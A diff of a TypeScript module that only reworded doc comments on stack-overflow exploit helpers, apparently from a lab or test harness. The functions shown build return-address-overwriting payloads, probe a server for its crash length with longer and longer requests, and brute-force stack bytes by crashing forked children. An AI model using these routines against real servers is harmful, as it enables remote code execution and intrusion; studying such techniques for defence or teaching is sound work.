@@ -5,7 +5,7 @@ const FILLER = 0x41;
 const WORD = 8;
 const MAX_OVERFLOW = 512;
 
-/** A request that replaces the return address, and what follows it on the stack. */
+/** Returns a request that overwrites the return address and the words after it on the stack. */
 export function returnTo({ frame }: Gateway, ...addresses: readonly bigint[]): Buffer {
   const words = Buffer.alloc(addresses.length * WORD);
   addresses.forEach((address, i) => {
@@ -14,7 +14,10 @@ export function returnTo({ frame }: Gateway, ...addresses: readonly bigint[]): B
   return Buffer.concat([Buffer.alloc(frame + WORD, FILLER), words]);
 }
 
-/** Number of bytes that fit before something breaks: found as an attacker finds it, by ever longer requests. */
+/**
+ * Returns the number of bytes that fit before the server crashes. Sends longer and longer requests, as an attacker
+ * does.
+ */
 export async function findLimit(gateway: Gateway, from: number): Promise<number> {
   for (let length = from; length < from + MAX_OVERFLOW; length += 1) {
     if (!(await gateway.send(Buffer.alloc(length, FILLER)))) return length - 1;
@@ -22,7 +25,10 @@ export async function findLimit(gateway: Gateway, from: number): Promise<number>
   throw new Error(`the gateway survives ${from + MAX_OVERFLOW} bytes: it has no overflow`);
 }
 
-/** Reads bytes of the stack behind `limit` one at a time: a wrong byte costs a child. Ends after `maxTries`. */
+/**
+ * Reads bytes of the stack behind `limit` one at a time: each wrong guess crashes a child. Resolves to the number of
+ * tries. Stops after `maxTries`.
+ */
 export async function readStack(
   gateway: Gateway,
   limit: number,
@@ -52,7 +58,7 @@ export interface ReadStackOptions {
   readonly pause: (tries: number) => Promise<void>;
 }
 
-/** The numbers below `count` in random order. */
+/** Returns the numbers below `count` in random order. */
 export function shuffled(count: number, random: SeededRandom): number[] {
   const numbers = Array.from({ length: count }, (_, i) => i);
   for (let i = count - 1; i > 0; i -= 1) {
